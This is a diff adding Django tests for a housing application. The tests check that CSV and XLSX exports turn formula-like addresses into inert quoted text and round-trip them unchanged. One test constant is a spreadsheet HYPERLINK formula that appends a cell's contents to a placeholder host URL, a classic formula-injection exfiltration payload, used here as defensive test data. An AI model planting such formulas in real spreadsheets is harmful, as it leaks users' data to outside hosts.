@@ -6,7 +6,7 @@ import io
 
 import pytest
 from django.urls import reverse
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 
 from boligtorg.core.factories import MunicipalityFactory, actor_for, member
 from boligtorg.core.models import AuditEvent, Role
@@ -305,3 +305,51 @@ def test_per_may_export_but_not_import(client, per):
     client.force_login(per)
     assert client.get(reverse("housing:dwelling_export")).status_code == 200
     assert client.get(reverse("housing:dwelling_import")).status_code == 403
+
+
+FORMULA = '=HYPERLINK("http://x.invalid/?"&A2,"Klikk")'
+
+
+def test_a_formula_as_an_address_is_inert_text_in_both_exports(trondheim, kari_actor):
+    DwellingFactory(municipality=trondheim, address=FORMULA, unit_number="H0101", floor=-1)
+    DwellingFactory(municipality=trondheim, address="@SUM(1+1)", unit_number="H0102")
+    sheet = load_workbook(io.BytesIO(_export(kari_actor, "xlsx"))).active
+    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
+    address = cells["H0101"][0]
+    assert (address.data_type, address.value, address.quotePrefix) == ("s", FORMULA, True)
+    floor = cells["H0101"][transfer.HEADER.index("floor")]
+    assert (floor.data_type, floor.value) == ("n", -1)
+    assert cells["H0102"][0].data_type == "s"
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    lines = list(
+        csv.reader(io.StringIO(_export(kari_actor, "csv").decode("utf-8-sig")), delimiter=";")
+    )
+    by_unit = {line[1]: line for line in lines[1:]}
+    assert by_unit["H0101"][0] == "'" + FORMULA
+    assert by_unit["H0101"][transfer.HEADER.index("floor")] == "-1"
+    assert by_unit["H0102"][0] == "'@SUM(1+1)"
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_formula_like_text_round_trips_exactly(trondheim, kari_actor, file_format):
+    longest = "=" + "x" * 199  # the quote the CSV adds does not count against the 200
+    for unit, address in [("H0101", FORMULA), ("H0102", "'=1+1"), ("H0103", longest)]:
+        DwellingFactory(municipality=trondheim, address=address, unit_number=unit)
+    DwellingFactory(municipality=trondheim, address="-", unit_number="H0104", co_op_name="+47")
+    exported = _export(kari_actor, file_format)
+    malvik = MunicipalityFactory(name="Malvik", code="5031")
+    bjorn = actor_for(member("bjorn", malvik, Role.CASEWORKER), malvik)
+    assert _import(bjorn, exported, f"export.{file_format}") == 4
+    assert dict(
+        Dwelling.objects.filter(municipality=malvik).values_list("unit_number", "address")
+    ) == {
+        "H0101": FORMULA,
+        "H0102": "'=1+1",
+        "H0103": longest,
+        "H0104": "-",
+    }
+    again = _export(bjorn, file_format)
+    if file_format == "csv":
+        assert again == exported
+    else:
+        assert transfer.read_xlsx(again)[0] == transfer.read_xlsx(exported)[0]
